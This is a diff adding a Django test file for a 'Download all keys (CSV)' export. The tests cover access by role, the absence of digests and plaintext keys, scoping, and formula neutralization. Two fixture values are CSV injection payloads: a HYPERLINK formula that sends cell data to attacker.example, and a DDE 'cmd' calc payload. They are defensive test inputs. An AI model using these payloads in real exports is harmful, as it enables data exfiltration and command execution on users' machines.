@@ -1,0 +1,156 @@
+"""Key pages → Download all keys (CSV): a collection's keys as the API lists them, for any
+member of the organization; never a digest or a key; formulas neutralized."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from apps.apikeys import keyformat
+from apps.apikeys.keyformat import KeyKind
+from apps.apikeys.models import ApiKey
+from apps.apikeys.services import revoke_key
+from core import export
+from tests.conftest import access_token_for, bearer
+from tests.factories import bulk_secret_keys, make_key
+from tests.pages import html, key_page_url, logged_in
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A2,"Click")'
+KINDS = [KeyKind.PUBLIC, KeyKind.SECRET, KeyKind.ORGANIZATION]
+
+
+def export_url(kind: KeyKind, project) -> str:
+    return key_page_url(kind, project) + "export.csv"
+
+
+def rows_of(response) -> list[dict[str, str]]:
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.DictReader(io.StringIO(text[1:], newline="")))
+
+
+def api_list(api_client, kind: KeyKind, project, user) -> list[dict]:
+    path = {
+        KeyKind.PUBLIC: f"/v1/projects/{project.id}/sdk-keys",
+        KeyKind.SECRET: f"/v1/projects/{project.id}/api-keys",
+        KeyKind.ORGANIZATION: f"/v1/organizations/{project.organization_id}/api-keys",
+    }[kind]
+    return api_client.get(path, **bearer(access_token_for(user))).json()["results"]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("role", ["owner", "admin", "member", "viewer"])
+def test_any_member_downloads_the_collection_as_the_api_lists_it(
+    request, kind, role, project, owner, api_client
+):
+    user = request.getfixturevalue(role)
+    old, _ = make_key(kind, project=project, actor=owner, name="old key")
+    make_key(kind, project=project, actor=owner, name="new key")
+    revoke_key(actor=owner, api_key=old)
+
+    response = logged_in(user).get(export_url(kind, project))
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Cache-Control"] == "no-store"
+    assert response["X-Content-Type-Options"] == "nosniff"
+    owner_id = project.organization_id if kind is KeyKind.ORGANIZATION else project.id
+    assert re.fullmatch(
+        rf'attachment; filename="sigsentry-[a-z-]+-keys-{owner_id}-\d{{8}}T\d{{6}}Z\.csv"',
+        response["Content-Disposition"],
+    )
+    rows = rows_of(response)
+    listed = api_list(api_client, kind, project, owner)
+    assert [row["name"] for row in rows] == ["new key", "old key"]
+    for row, key in zip(rows, listed, strict=True):
+        assert row == {
+            "id": key["id"],
+            "name": key["name"],
+            "prefix": key["prefix"],
+            "type": key["type"],
+            "scope": key["scope"],
+            "legacy": "false",
+            "permissions": " ".join(key["permissions"]),
+            "status": key["status"],
+            "createdAt": key["createdAt"],
+            "createdBy": owner.email,
+            "expiresAt": key["expiresAt"] or "",
+            "lastUsedAt": key["lastUsedAt"] or "",
+            "lastUsedIp": key["lastUsedIp"] or "",
+            "revokedAt": key["revokedAt"] or "",
+        }
+    assert rows[1]["status"] == "revoked" and rows[1]["revokedAt"]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_the_file_holds_no_digest_and_no_key(kind, project, owner):
+    api_key, plaintext = make_key(kind, project=project, actor=owner)
+
+    response = logged_in(owner).get(export_url(kind, project))
+    text = b"".join(response.streaming_content).decode()
+
+    assert api_key.prefix in text
+    assert plaintext not in text and plaintext[len(api_key.prefix) :] not in text
+    assert ApiKey.objects.get(pk=api_key.pk).digest not in text
+
+
+def test_only_the_collections_keys_are_listed(project, other_project, owner):
+    make_key(KeyKind.SECRET, project=project, actor=owner, name="this project's")
+    make_key(KeyKind.PUBLIC, project=project, actor=owner, name="an sdk key")
+    make_key(KeyKind.SECRET, project=other_project, actor=owner, name="other project's")
+    make_key(KeyKind.ORGANIZATION, organization=project.organization, actor=owner, name="org's")
+
+    rows = rows_of(logged_in(owner).get(export_url(KeyKind.SECRET, project)))
+
+    assert [row["name"] for row in rows] == ["this project's"]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_outsider_gets_404(kind, project, owner, outsider):
+    make_key(kind, project=project, actor=owner, name="secretive")
+
+    response = logged_in(outsider).get(export_url(kind, project))
+
+    assert response.status_code == 404 and not response.streaming
+    assert "secretive" not in html(response)
+
+
+def test_a_key_named_like_a_formula_is_only_text(project, owner):
+    make_key(KeyKind.SECRET, project=project, actor=owner, name=FORMULA)
+    make_key(KeyKind.SECRET, project=project, actor=owner, name="@SUM(1+1)*cmd|' /C calc'!A0")
+
+    rows = rows_of(logged_in(owner).get(export_url(KeyKind.SECRET, project)))
+
+    assert [row["name"] for row in rows] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'" + FORMULA]
+
+
+def test_the_key_pages_link_their_download(project, owner, viewer):
+    for kind in KINDS:
+        page = html(logged_in(viewer).get(key_page_url(kind, project)))
+        assert f'href="{export_url(kind, project)}" download>Download all keys (CSV)' in page
+
+
+def queries_of(client, url: str) -> int:
+    with CaptureQueriesContext(connection) as ctx:
+        b"".join(client.get(url).streaming_content)
+    return len(ctx.captured_queries)
+
+
+def test_a_download_costs_one_query_per_chunk_whatever_the_keys(project, owner, monkeypatch):
+    client = logged_in(owner)
+    url = export_url(KeyKind.SECRET, project)
+    bulk_secret_keys(project, 3)
+    queries_of(client, url)  # warmed up
+    few = queries_of(client, url)
+    bulk_secret_keys(project, 60, each=lambda i: {"digest": keyformat.digest(f"more-{i}")})
+    assert queries_of(client, url) == few
+
+    monkeypatch.setattr(export, "CHUNK_ROWS", 10)
+    assert queries_of(client, url) == few + 6  # 7 chunks of 63 keys instead of 1
